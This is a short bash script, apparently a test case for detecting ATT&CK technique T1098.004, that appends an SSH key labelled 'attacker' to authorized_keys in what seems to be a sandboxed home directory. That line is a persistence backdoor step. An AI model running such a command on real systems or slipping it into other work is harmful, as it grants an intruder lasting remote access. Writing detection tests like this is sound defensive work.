#!/usr/bin/env bash
# attack: T1098.004 Add an SSH key to a user's authorized_keys
. "$(dirname "$0")/lib/common.sh"
mkhome
mkdir -p "$HOME/.ssh"
echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGq attacker" >> "$HOME/.ssh/authorized_keys"
